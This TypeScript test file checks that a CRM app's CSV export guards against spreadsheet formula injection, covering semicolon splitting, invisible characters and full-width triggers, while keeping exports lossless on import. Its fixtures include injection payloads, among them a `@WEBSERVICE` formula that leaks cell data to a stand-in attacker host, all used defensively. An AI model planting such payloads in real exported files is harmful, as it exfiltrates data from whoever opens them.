/**
 * The CSV formula guard: export → import gives back every text the app accepts byte for byte, and
 * no exported cell runs as a formula in a spreadsheet, whether it splits the file on `,` or `;`
 * (or ignores quotes), and whatever blanks, invisible characters or full-width forms come first.
 */
import fc from 'fast-check';
import { parse } from 'csv-parse/browser/esm/sync';
import { describe, expect, it } from 'vitest';
import {
  exportDealsCsv,
  exportLeadsCsv,
  guardText,
  importDealsCsv,
  importLeadsCsv,
  unguardText,
} from '../../src/lib/csv/interchange';
import { validate } from '../../src/lib/domain/validate';
import { LOST_REASONS, STAGES, type Deal, type Lead } from '../../src/lib/domain';

// ------------------------------------------------------------------------------------------------
// What "runs as a formula" means to these tests: written independently of the module.

/** Blanks, invisible and format characters a spreadsheet may trim or a person not see; and `"`. */
const LEADING_IGNORED = /^[\p{White_Space}\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}"]*/u;
/** Half-width and full-width formula triggers (and the small forms and minus sign). */
const TRIGGER = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u2212]/;

const startsFormula = (piece: string) => !/^[A-Za-z0-9]/.test(piece) && TRIGGER.test(piece.replace(LEADING_IGNORED, ''));

/**
 * The pieces of an exported file a spreadsheet could take for cells: each cell after CSV parsing
 * and each `,`/`;`/tab/line-separated part of it, and each part of the raw text split on those
 * characters (a semicolon locale, or a reader that ignores quotes).
 */
function cellPieces(text: string): string[] {
  const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
  return [...cells, ...cells.flatMap((cell) => cell.split(/[,;\t\n\r]/)), ...text.split(/[,;\t\n\r]/)];
}

const formulaPieces = (text: string) => cellPieces(text).filter(startsFormula);

// ------------------------------------------------------------------------------------------------
// Records

const BASE_LEAD: Lead = {
  id: 'L1', partnerId: 'p1', repId: 'r1', createdAt: Date.parse('2026-01-05T04:30:00Z'), channel: 'paid', status: 'new',
  company: 'Acme Ltd', contactName: 'Asha Rao',
};
const BASE_DEAL: Deal = {
  id: 'D1', partnerId: 'p1', repId: 'r1', title: 'Annual licence', channel: 'paid', amount: 1_250_050, currency: 'INR',
  stage: 'proposal', probability: 50, createdAt: Date.parse('2026-01-06T04:30:00Z'), updatedAt: Date.parse('2026-01-06T04:30:00Z'),
};

/** The record as the app keeps it (validated: text trimmed), or undefined when the app refuses it. */
function accepted<K extends 'lead' | 'deal'>(kind: K, record: K extends 'lead' ? Lead : Deal): (K extends 'lead' ? Lead : Deal) | undefined {
  const result = validate(kind, record);
  return result.ok ? (result.value as K extends 'lead' ? Lead : Deal) : undefined;
}

/** What the importer gives back for a deal: files carry no updatedAt. */
const asImported = (deal: Deal): Deal => ({ ...deal, updatedAt: deal.closedAt ?? deal.createdAt });

function leadsBack(leads: Lead[], tz = 'UTC') {
  const text = exportLeadsCsv(leads, tz);
  return { text, result: importLeadsCsv(text) };
}

function dealsBack(deals: Deal[], tz = 'UTC') {
  const text = exportDealsCsv(deals, tz);
  return { text, result: importDealsCsv(text) };
}

/** The exported cell of one column of the first record. */
function exportedCell(text: string, column: string): string {
  const [header, first] = parse(text, { bom: true }) as string[][];
  return first![header!.indexOf(column)]!;
}

// ------------------------------------------------------------------------------------------------
// Named regressions (the issue "CSV round trip alters data")

describe('CSV formula guard: the reported cases', () => {
  it("keeps a value that itself starts with an apostrophe before a trigger ('=SUM(A1))", () => {
    const lead = { ...BASE_LEAD, company: "'=SUM(A1)", contactName: "''=SUM(A1)" };
    const deal = { ...BASE_DEAL, title: "'=SUM(A1)" };
    const leads = leadsBack([lead]);
    const deals = dealsBack([deal]);
    expect(exportedCell(leads.text, 'company')).toBe("''=SUM(A1)");
    expect(exportedCell(leads.text, 'contact_name')).toBe("'''=SUM(A1)");
    expect(leads.result).toEqual({ ok: true, records: [lead] });
    expect(deals.result).toEqual({ ok: true, records: [asImported(deal)] });
    expect(formulaPieces(leads.text + deals.text)).toEqual([]);
  });

  it("imports its own export of an accepted email '@WEBSERVICE(...)", () => {
    const email = `'@WEBSERVICE("http://evil.example/?leak="&A1)`;
    const lead = { ...BASE_LEAD, email };
    expect(accepted('lead', lead)).toEqual(lead); // the app accepts it as it is
    const { text, result } = leadsBack([lead]);
    expect(exportedCell(text, 'email')).toBe(`''@WEBSERVICE("http://evil.example/?leak="&A1)`);
    expect(result).toEqual({ ok: true, records: [lead] });
    expect(formulaPieces(text)).toEqual([]);
  });

  it('neutralises a cell that becomes a formula when split on ";" (Acme;=1+1)', () => {
    const lead = { ...BASE_LEAD, company: 'Acme;=1+1', contactName: 'Acme, =1+1', email: 'a;@x.example' };
    const { text, result } = leadsBack([lead]);
    expect(exportedCell(text, 'company')).toBe("Acme;'=1+1");
    expect(exportedCell(text, 'contact_name')).toBe("Acme,' =1+1");
    expect(exportedCell(text, 'email')).toBe("a;'@x.example");
    expect(text.split('\n')[1]!.split(';').slice(1).every((piece) => piece.startsWith("'"))).toBe(true);
    expect(result).toEqual({ ok: true, records: [lead] });
    expect(formulaPieces(text)).toEqual([]);
  });

  it('neutralises a trigger after leading blanks ( =1+1), also in a record that was never trimmed', () => {
    // As the app keeps it, " =1+1" is trimmed to "=1+1"; inside the text the blank stays.
    const kept = accepted('lead', { ...BASE_LEAD, company: ' =1+1', contactName: 'Acme; =1+1' })!;
    expect(kept.company).toBe('=1+1');
    const { text, result } = leadsBack([kept]);
    expect(exportedCell(text, 'company')).toBe("'=1+1");
    expect(exportedCell(text, 'contact_name')).toBe("Acme;' =1+1");
    expect(result).toEqual({ ok: true, records: [kept] });
    expect(formulaPieces(text)).toEqual([]);
    // A record straight from elsewhere, never validated, is still exported safely.
    const raw = leadsBack([{ ...BASE_LEAD, company: ' =1+1', contactName: '\u00A0\t@x' }]).text;
    expect(exportedCell(raw, 'company')).toBe("' =1+1");
    expect(exportedCell(raw, 'contact_name')).toBe("'\u00A0\t'@x");
    expect(formulaPieces(raw)).toEqual([]);
  });

  it('neutralises triggers after invisible characters (\\u200B=1+1, BOM, NBSP, word joiner)', () => {
    const lead = { ...BASE_LEAD, company: '\u200B=1+1', contactName: 'Acme;\uFEFF+1', email: '\u2060@x.example' };
    const deal = { ...BASE_DEAL, title: 'Big;\u00A0-1\n\u3000=1' };
    const leads = leadsBack([lead]);
    const deals = dealsBack([deal]);
    expect(exportedCell(leads.text, 'company')).toBe("'\u200B=1+1");
    expect(exportedCell(leads.text, 'contact_name')).toBe("Acme;'\uFEFF+1");
    expect(exportedCell(leads.text, 'email')).toBe("'\u2060@x.example");
    expect(exportedCell(deals.text, 'title')).toBe("Big;'\u00A0-1\n'\u3000=1");
    expect(leads.result).toEqual({ ok: true, records: [lead] });
    expect(deals.result).toEqual({ ok: true, records: [asImported(deal)] });
    expect(formulaPieces(leads.text + deals.text)).toEqual([]);
  });

  it('neutralises full-width triggers (＝1+1, ＋, －, ＠)', () => {
    const lead = { ...BASE_LEAD, company: '＝1+1', contactName: 'Acme;＠SUM(1)' };
    const deal = { ...BASE_DEAL, title: '－1, ＋1' };
    const leads = leadsBack([lead]);
    const deals = dealsBack([deal]);
    expect(exportedCell(leads.text, 'company')).toBe("'＝1+1");
    expect(exportedCell(leads.text, 'contact_name')).toBe("Acme;'＠SUM(1)");
    expect(exportedCell(deals.text, 'title')).toBe("'－1,' ＋1");
    expect(leads.result).toEqual({ ok: true, records: [lead] });
    expect(deals.result).toEqual({ ok: true, records: [asImported(deal)] });
    expect(formulaPieces(leads.text + deals.text)).toEqual([]);
  });

  it('maps apostrophes one to one: each apostrophe-led value comes back as it was', () => {
    const values = ["'", "''", "'''", "' ", "' x", "'x", "''x", "'=", "''=", "a;'", "a;''", "a,'b", "x\n'", "'\u200B=1", "\u200B'=1", '"=1', "a;\"'=1"];
    for (const value of values) {
      expect(unguardText(guardText(value)), JSON.stringify(value)).toBe(value);
    }
    expect(guardText("'")).toBe("''");
    expect(guardText("a;''")).toBe("a;'''");
    const leads = values.map((value, index) => ({ ...BASE_LEAD, id: `L${index}`, company: `${value}|`, contactName: `|${value}|` }));
    expect(leadsBack(leads).result).toEqual({ ok: true, records: leads });
  });

  it('keeps an apostrophe a person typed before ordinary text, and reads files of the old guard', () => {
    const text = [
      'id,partner_id,rep_id,created_at,channel,status,company,contact_name,phone,email,qualified_at',
      `L1,p1,r1,2026-01-05T10:00:00Z,paid,new,"Rock,'n roll",'Asha,'+91 98765 43210,,`,
      `L2,p1,r1,2026-01-05T10:00:00Z,paid,new,"'=HYPERLINK(""http://x"")",'@mention,,,`,
    ].join('\n');
    const result = importLeadsCsv(text);
    expect(result.ok && result.records.map((lead) => [lead.company, lead.contactName, lead.phone])).toEqual([
      ["Rock,'n roll", "'Asha", '+91 98765 43210'],
      ['=HYPERLINK("http://x")', '@mention', undefined],
    ]);
  });

  it('keeps numbers unescaped: amounts and probabilities are written as numbers', () => {
    const { text } = dealsBack([{ ...BASE_DEAL, title: '=1' }]);
    expect(exportedCell(text, 'amount')).toBe('12500.50');
    expect(exportedCell(text, 'probability')).toBe('50');
    expect(exportedCell(text, 'title')).toBe("'=1");
  });
});

// ------------------------------------------------------------------------------------------------
// Properties

/** Characters that matter here, often; any code point of Unicode, sometimes. */
const SPECIAL = [
  '=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '\u2212', '⁼', "'", "''", '"', ';', ',', ' ', '\t', '\r', '\n', '\r\n',
  '\u00A0', '\u200B', '\u200D', '\uFEFF', '\u2060', '\u180E', '\u3000', '\u2028', '\u202E', '\u3164', '\u0000', '\u001F',
  'a', 'Z', 'é', '1', '(', ')', '.', '#', '|', '%', '!', '😀',
];
const anyChar = fc.string({ unit: 'binary', minLength: 1, maxLength: 1 });
const unit = fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...SPECIAL) }, { weight: 2, arbitrary: anyChar }, { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) });
const anyText = fc.string({ unit, maxLength: 24 });

const phoneText = fc
  .tuple(fc.constantFrom('', '+', '-', ' ', '(', "'"), fc.string({ unit: fc.constantFrom(...'+0123456789 ()./-'), minLength: 4, maxLength: 24 }))
  .map(([first, rest]) => first + rest);
const emailPart = fc.string({ unit: fc.oneof(fc.constantFrom(...SPECIAL.filter((char) => !/[\s@]/.test(char))), anyChar), minLength: 1, maxLength: 8 });
const emailText = fc.oneof(
  fc.tuple(emailPart, emailPart, emailPart).map(([local, domain, top]) => `${local}@${domain}.${top}`),
  fc.tuple(fc.constantFrom('=', '@', ' ', "'", '＠', '\u200B', ';'), emailPart).map(([first, rest]) => `${first}${rest}@x.example`),
);

/** Values the app accepts in `field` (checked by validating a base record holding the value). */
function fieldText(kind: 'lead' | 'deal', field: string, text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const base = kind === 'lead' ? BASE_LEAD : BASE_DEAL;
  return text.filter((value) => validate(kind, { ...base, [field]: value }).ok);
}

/** The same for an optional field: sometimes absent. */
const optionalFieldText = (kind: 'lead' | 'deal', field: string, text: fc.Arbitrary<string>) =>
  fc.option(fieldText(kind, field, text), { nil: undefined, freq: 3 });

const instant = fc.integer({ min: Date.UTC(2020, 0, 1), max: Date.UTC(2030, 0, 1) });

const leadArb = fc
  .record({
    company: fieldText('lead', 'company', anyText),
    contactName: fieldText('lead', 'contactName', anyText),
    phone: optionalFieldText('lead', 'phone', phoneText),
    email: optionalFieldText('lead', 'email', emailText),
    createdAt: instant,
    qualifiedAt: fc.option(instant, { nil: undefined }),
  })
  .map(({ phone, email, qualifiedAt, ...fields }) => {
    const candidate: Lead = { ...BASE_LEAD, ...fields, ...(phone !== undefined && { phone }), ...(email !== undefined && { email }), ...(qualifiedAt !== undefined && { qualifiedAt }) };
    const kept = accepted('lead', candidate);
    if (!kept) throw new Error(`generated a lead the app refuses: ${JSON.stringify(candidate)}`);
    return kept;
  });

const dealArb = fc
  .record({
    title: fieldText('deal', 'title', anyText),
    stage: fc.constantFrom(...STAGES),
    lostReason: fc.option(fc.constantFrom(...LOST_REASONS), { nil: undefined }),
    currency: fc.constantFrom('INR', 'USD', 'JPY'),
    amount: fc.integer({ min: 0, max: 10_000_000_000 }),
    probability: fc.integer({ min: 0, max: 100 }),
    createdAt: instant,
    closeAfter: fc.integer({ min: 0, max: 90 * 86_400_000 }),
    expectedCloseAt: fc.option(instant, { nil: undefined }),
    leadId: fc.option(fc.constant('L0'), { nil: undefined }),
  })
  .map(({ closeAfter, lostReason, expectedCloseAt, leadId, ...fields }) => {
    const closed = fields.stage === 'won' || fields.stage === 'lost';
    const closedAt = closed ? fields.createdAt + closeAfter : undefined;
    const candidate: Deal = {
      ...BASE_DEAL,
      ...fields,
      updatedAt: closedAt ?? fields.createdAt,
      ...(closedAt !== undefined && { closedAt }),
      ...(fields.stage === 'lost' && lostReason !== undefined && { lostReason }),
      ...(expectedCloseAt !== undefined && { expectedCloseAt }),
      ...(leadId !== undefined && { leadId }),
    };
    const kept = accepted('deal', candidate);
    if (!kept) throw new Error(`generated a deal the app refuses: ${JSON.stringify(candidate)}`);
    return kept;
  });

const withIds = <T extends { id: string }>(records: T[], prefix: string): T[] => records.map((record, index) => ({ ...record, id: `${prefix}${index}` }));

describe('CSV formula guard: properties', () => {
  it('guardText is undone by unguardText and leaves no formula, for any string at all', () => {
    fc.assert(
      fc.property(fc.oneof(anyText, fc.string({ unit: 'binary' }), fc.string({ unit, maxLength: 200 })), (text) => {
        const cell = guardText(text);
        expect(unguardText(cell)).toBe(text);
        expect([cell, ...cell.split(/[,;\t\n\r]/)].filter(startsFormula)).toEqual([]);
      }),
      { seed: 20_260_115, numRuns: 20_000 },
    );
  });

  it('export → import gives back every accepted lead and deal exactly, and no exported piece runs as a formula', () => {
    fc.assert(
      fc.property(
        fc.array(leadArb, { minLength: 1, maxLength: 3 }),
        fc.array(dealArb, { minLength: 1, maxLength: 3 }),
        fc.constantFrom('UTC', 'Asia/Kolkata', 'America/New_York'),
        (generatedLeads, generatedDeals, tz) => {
          const leads = withIds(generatedLeads, 'L');
          const deals = withIds(generatedDeals, 'D');
          const leadsText = exportLeadsCsv(leads, tz);
          const dealsText = exportDealsCsv(deals, tz);
          expect(importLeadsCsv(leadsText)).toEqual({ ok: true, records: leads });
          expect(importDealsCsv(dealsText)).toEqual({ ok: true, records: deals.map(asImported) });
          expect(formulaPieces(leadsText)).toEqual([]);
          expect(formulaPieces(dealsText)).toEqual([]);
        },
      ),
      { seed: 20_260_106, numRuns: 3_000 },
    );
  }, 30_000);
});
